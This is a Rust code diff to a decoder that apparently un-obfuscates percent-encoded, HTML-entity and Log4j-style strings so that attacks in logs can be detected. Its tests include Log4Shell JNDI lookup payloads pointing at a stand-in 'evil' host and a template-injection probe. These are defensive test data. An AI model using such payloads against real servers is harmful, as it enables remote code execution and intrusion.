@@ -5,12 +5,14 @@
 /// Percent-decoding rounds: attackers double-encode to slip past one decoder.
 const PERCENT_ROUNDS: usize = 2;
 
+/// The longest lookup default taken as spelling characters rather than as a value.
+const MAX_SPELLED: usize = 4;
+
 fn hex_value(b: u8) -> Option<u8> {
     (b as char).to_digit(16).map(|d| d as u8)
 }
 
 fn percent_decode(s: &str) -> String {
-    let form_encoded = !s.contains(' ');
     let bytes = s.as_bytes();
     let mut out = Vec::with_capacity(bytes.len());
     let mut i = 0;
@@ -27,10 +29,6 @@ fn percent_decode(s: &str) -> String {
                         i += 1;
                     }
                 }
-            }
-            b'+' if form_encoded => {
-                out.push(b' ');
-                i += 1;
             }
             b => {
                 out.push(b);
@@ -50,7 +48,8 @@ fn html_decode(s: &str) -> String {
     while let Some(at) = rest.find('&') {
         out.push_str(&rest[..at]);
         let tail = &rest[at..];
-        let end = tail.find(';').filter(|&e| e <= 10);
+        // An entity is short: looking further would make a line of `&`s quadratic.
+        let end = tail.as_bytes().iter().take(11).position(|&b| b == b';');
         let decoded = end.and_then(|e| {
             let entity = &tail[1..e];
             let ch = match entity {
@@ -95,9 +94,9 @@ fn log4j_deobfuscate(s: &str) -> String {
             let body_start = start + 2;
             let Some(close) = rest[body_start..].find('}') else { break };
             let body = &rest[body_start..body_start + close];
-            if body.contains("${") {
-                // Not innermost: copy up to the inner one and look again from there.
-                let inner = body_start + body.find("${").unwrap_or(0);
+            if let Some(inner) = body.rfind("${") {
+                // Not innermost: copy up to the innermost one before this `}` and go on from it.
+                let inner = body_start + inner;
                 out.push_str(&rest[..inner]);
                 rest = &rest[inner..];
                 continue;
@@ -108,7 +107,12 @@ fn log4j_deobfuscate(s: &str) -> String {
             } else if lower.starts_with("upper:") {
                 Some(body[6..].to_ascii_uppercase())
             } else {
-                body.find(":-").map(|i| body[i + 2..].to_string())
+                // A default that spells a few characters (`${::-j}`, `${env:NaN:-j}`) is
+                // obfuscation; a lookup with a default (`${jndi:ldap://x/a:-b}`) is still the
+                // lookup Log4j performs, and must stay visible.
+                body.find(":-")
+                    .filter(|&i| body.len() - i - 2 <= MAX_SPELLED && !lower.starts_with("jndi"))
+                    .map(|i| body[i + 2..].to_string())
             };
             out.push_str(&rest[..start]);
             match replacement {
@@ -131,24 +135,21 @@ fn log4j_deobfuscate(s: &str) -> String {
 
 /// The decoded form, or `None` when there is nothing to decode.
 pub fn decode(s: &str) -> Option<String> {
-    if !s.contains(['%', '&', '$', '+']) {
+    // `+` is a space only in form-encoded text, which has no literal spaces (a whole log line,
+    // `+0000` in its time, is not), and only as written: a `+` from `%2B` stays a plus.
+    let form_encoded = s.contains('+') && !s.contains(' ');
+    if !form_encoded && !s.contains(['%', '&', '$']) {
         return None;
     }
-    let mut text = s.to_string();
+    let mut text = if form_encoded { s.replace('+', " ") } else { s.to_string() };
     for _ in 0..PERCENT_ROUNDS {
         if !text.contains('%') {
             break;
         }
         text = percent_decode(&text);
     }
-    let text = log4j_deobfuscate(&html_decode(&percent_decode_plus_only(&text)));
+    let text = log4j_deobfuscate(&html_decode(&text));
     (text != s).then_some(text)
-}
-
-/// `+` as space where no `%` remained to trigger a full round — in form-encoded text only: a
-/// value with literal spaces (a whole log line, `+0000` in its time) is not.
-fn percent_decode_plus_only(s: &str) -> String {
-    if s.contains('+') && !s.contains(' ') { s.replace('+', " ") } else { s.to_string() }
 }
 
 #[cfg(test)]
@@ -172,6 +173,19 @@ mod tests {
         );
         assert_eq!(decode("%24%7Bjndi%3Aldap%3A%2F%2Fx%7D").as_deref(), Some("${jndi:ldap://x}"));
         assert_eq!(decode("/plain/path"), None);
+        // A lookup with a default is the lookup, not its default.
+        assert_eq!(
+            decode("${${lower:j}ndi:ldap://evil/a:-x}").as_deref(),
+            Some("${jndi:ldap://evil/a:-x}")
+        );
+        // `+` is a space as written in a query, a plus when it came from %2B.
+        assert_eq!(decode("q=a+b%2Bc").as_deref(), Some("q=a b+c"));
+        assert_eq!(decode("x=%27%2b%7b233*233%7d").as_deref(), Some("x='+{233*233}"));
+        assert_eq!(decode("GET /a HTTP/1.1 [03/Jun/2024:10:00:00 +0000]"), None);
+        // Hostile nesting and ampersands stay linear.
+        let nested = "${".repeat(200_000);
+        assert_eq!(decode(&nested), None);
+        assert_eq!(decode(&"&".repeat(1_000_000)), None);
         assert_eq!(decode("100%"), None, "a stray % changes nothing");
         assert_eq!(decode("%zz%4"), None);
     }
